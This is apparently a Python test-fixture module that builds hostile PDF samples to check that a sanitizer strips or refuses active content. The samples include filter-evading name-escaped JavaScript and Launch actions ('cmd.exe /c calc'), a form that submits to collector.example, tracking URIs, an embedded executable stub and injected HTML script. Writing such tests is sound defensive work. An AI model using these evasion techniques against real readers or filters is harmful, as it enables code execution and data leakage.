"""PDF files written byte by byte, as an attacker would: each hostile sample is a working PDF
(one page saying "Hello") carrying one kind of active content, spelled the way that got past
a byte-substring filter."""

import io

from PIL import Image

HELLO = b"BT /F1 24 Tf 72 720 Td (Hello from page one) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
AUTHOR = b"Jane Q. Student"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d " % len(data) + entries + b" >>\nstream\n" + data + b"\nendstream"


def pdf(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    resources: bytes = b"",
    extra_objects: tuple[bytes, ...] = (),
    trailer: bytes = b"",
    before_objects: bytes = b"",
    content: bytes = HELLO,
) -> bytes:
    """A one-page PDF with a correct cross-reference table. Objects 1-4 are the catalog, the
    page tree, the page and its content; `extra_objects` are numbered from 5 on."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 " + FONT + b" >> " + resources + b" >> " + page + b" >>",
        stream(content),
        *extra_objects,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + before_objects)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R " % (len(objects) + 1) + trailer + b" >>\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def jpeg_with_gps() -> bytes:
    image = Image.new("RGB", (16, 16), (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "SpyCam Inc"
    exif[0x8825] = {1: "N", 2: (39.0, 44.0, 21.0), 3: "W", 4: (104.0, 59.0, 3.0)}
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", exif=exif, comment=b"taken by " + AUTHOR)
    return buffer.getvalue()


CLEAN = pdf(trailer=b"/Info << /Author (" + AUTHOR + b") /Title (My notes) >>")


def with_photo() -> bytes:
    """A page drawing a JPEG that carries GPS and a comment, with an XMP stream of its own."""
    photo = jpeg_with_gps()
    return pdf(
        content=HELLO + b" q 100 0 0 100 72 500 cm /Im1 Do Q",
        resources=b"/XObject << /Im1 5 0 R >>",
        extra_objects=(
            stream(
                photo,
                b"/Type /XObject /Subtype /Image /Width 16 /Height 16 /ColorSpace /DeviceRGB "
                b"/BitsPerComponent 8 /Filter /DCTDecode /Metadata 6 0 R",
            ),
            stream(b"<x:xmpmeta><dc:creator>" + AUTHOR + b"</dc:creator></x:xmpmeta>"),
        ),
    )


# Each sample: (what it carries, bytes, bytes that must not survive in what is stored).
HOSTILE = {
    "name-escaped JavaScript on open": (
        pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\('x'\\)) >>"),
        [b"app.alert", b"J#61vaScript"],
    ),
    "JavaScript in the document's names": (
        pdf(
            catalog=b"/Names << /JavaScript << /Names [(x) 5 0 R] >> >>",
            extra_objects=(b"<< /S /JavaScript /JS (this.exportDataObject\\(\\)) >>",),
        ),
        [b"exportDataObject"],
    ),
    "name-escaped Launch in a link": (
        pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] "
            b"/A << /S /L#61unch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>]"
        ),
        [b"cmd.exe", b"L#61unch"],
    ),
    "URI action on open": (
        pdf(catalog=b"/OpenAction /URI /URI << /Base (https://tracker.example/) >>"),
        [b"tracker.example"],
    ),
    "URI action dictionary on open": (
        pdf(catalog=b"/OpenAction << /S /URI /URI (https://tracker.example/open?id=7) >>"),
        [b"tracker.example"],
    ),
    "page additional actions": (
        pdf(page=b"/AA << /O << /S /JavaScript /JS (app.launchURL\\('x'\\)) >> >>"),
        [b"launchURL"],
    ),
    "submit form": (
        pdf(
            catalog=b"/AcroForm << /Fields [5 0 R] /XFA (<xdp/>) >>",
            page=b"/Annots [5 0 R]",
            extra_objects=(
                b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [0 0 9 9] "
                b"/A << /S /SubmitForm /F (https://collector.example/) >> >>",
            ),
        ),
        [b"collector.example", b"<xdp/>"],
    ),
    "embedded file": (
        pdf(
            catalog=b"/Names << /EmbeddedFiles << /Names [(run.exe) 5 0 R] >> >>",
            extra_objects=(
                b"<< /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>",
                stream(b"MZ-this-is-not-a-document", b"/Type /EmbeddedFile"),
            ),
        ),
        [b"MZ-this-is-not-a-document", b"run.exe"],
    ),
    "file attachment and rich media annotations": (
        pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] "
            b"/FS << /Type /Filespec /F (a.js) /EF << /F 5 0 R >> >> >> "
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]",
            extra_objects=(stream(b"payload-of-the-attachment", b"/Type /EmbeddedFile"),),
        ),
        [b"payload-of-the-attachment", b"RichMedia"],
    ),
    "HTML between the objects": (
        pdf(before_objects=b"<html><body><script>alert(document.domain)</script></body></html>\n"),
        [b"<script", b"<html"],
    ),
    "document metadata": (
        pdf(
            catalog=b"/Metadata 5 0 R",
            trailer=b"/Info << /Author (" + AUTHOR + b") /Creator (Scanner of Jane) >>",
            extra_objects=(
                stream(b"<x:xmpmeta><dc:creator>" + AUTHOR + b"</dc:creator></x:xmpmeta>"),
            ),
        ),
        [AUTHOR, b"Scanner of Jane"],
    ),
}
# Refused outright: what is left after the rebuild would still act, or is not a PDF.
REFUSED = {
    "JavaScript hidden in the page's resources": pdf(
        resources=b"/XObject << /X1 5 0 R >>",
        extra_objects=(b"<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>",),
    ),
    "PostScript XObject": pdf(
        resources=b"/XObject << /P1 5 0 R >>",
        extra_objects=(stream(b"(x) print", b"/Type /XObject /Subtype /PS"),),
    ),
    "HTML in the page's own content": pdf(
        content=b"%<html><script>alert(1)</script></html>\n" + HELLO
    ),
    "HTML with a PDF header": b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n"
    b"%%EOF\n",
    "no pages": b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
    b"trailer << /Root 1 0 R >>\n%%EOF\n",
    "truncated": CLEAN[: len(CLEAN) // 3],
}
